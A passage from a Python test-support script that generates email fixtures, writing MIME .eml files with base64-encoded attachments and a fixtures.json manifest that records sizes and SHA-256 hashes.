        "Subject: %s" % extra.get("subject", "Fixture %s" % name),
        "Date: Sun, 01 Jan 2023 08:00:00 +0000",
        "Message-ID: <%s@fixtures.mamori.invalid>" % name,
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="%s"' % boundary,
        "",
        "--" + boundary,
        "Content-Type: text/plain; charset=UTF-8",
        "Content-Transfer-Encoding: 8bit",
        "",
        body.rstrip("\r\n"),
        "--" + boundary,
        "Content-Type: " + ctype,
        "Content-Disposition: " + disp,
        "Content-Transfer-Encoding: base64",
        "", ""])
    with open(path, "wb") as out, open(att_path, "rb") as src:
        out.write(head.encode())
        while True:
            chunk = src.read(57 * 1024)
            if not chunk:
                break
            for i in range(0, len(chunk), 57):
                out.write(base64.b64encode(chunk[i:i + 57]) + b"\r\n")
        out.write(("--%s--\r\n" % boundary).encode())


# ---- main --------------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--only", nargs="+", metavar="NAME")
    ap.add_argument("--big", action="store_true", help="also the 500 MB padded documents")
    ap.add_argument("--list", action="store_true", help="list the fixtures and exit")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    known = [f[0] for f in FIXTURES]
    if args.list:
        for name, file, big, _ in FIXTURES:
            print("%-22s %-18s %s" % (name, file, "big" if big else ""))
        return 0
    for n in args.only or []:
        if n not in known:
            sys.exit("make_fixtures: unknown fixture %s (known: %s)" % (n, " ".join(known)))
    os.makedirs(args.outdir, exist_ok=True)
    manifest_path = os.path.join(args.outdir, "fixtures.json")
    entries = {}
    if args.only and os.path.exists(manifest_path):
        with open(manifest_path, encoding="utf-8") as f:
            entries = {e["name"]: e for e in json.load(f)["fixtures"]}
    for name, att, big, fn in FIXTURES:
        if args.only and name not in args.only:
            continue
        if not args.only and big and not args.big:
            continue
        t0 = time.monotonic()
        with tempfile.TemporaryDirectory(prefix="mamori-fx-") as tmp:
            data, info = fn(tmp, att)
            att_path = os.path.join(args.outdir, att)
            with open(att_path, "wb") as f:
                if callable(data):
                    data(f)
                else:
                    f.write(data)
        h = hashlib.sha256()
        with open(att_path, "rb") as f:
            for chunk in iter(lambda: f.read(MiB), b""):
                h.update(chunk)
        eml = name + ".eml"
        write_eml(os.path.join(args.outdir, eml), name, att, att_path, info.pop("eml", None))
        entry = {"name": name, "file": att, "eml": eml, "big": big,
                 "description": info.pop("description"),
                 "size": os.path.getsize(att_path), "sha256": h.hexdigest(),
                 "complete": info.pop("complete", True)}
        entry.update(info)
        entries[name] = entry
        if not args.quiet:
            print("%-22s %-18s %10d bytes  %.2fs" % (name, att, entry["size"],
                                                    time.monotonic() - t0))
    order = {n: i for i, n in enumerate(known)}
    doc = {"format": 1, "generator": "tests/support/make_fixtures.py",
           "fixtures": sorted(entries.values(), key=lambda e: order.get(e["name"], 1 << 30))}
    with open(manifest_path, "w", encoding="utf-8") as f:
        json.dump(doc, f, ensure_ascii=False, indent=1)
        f.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
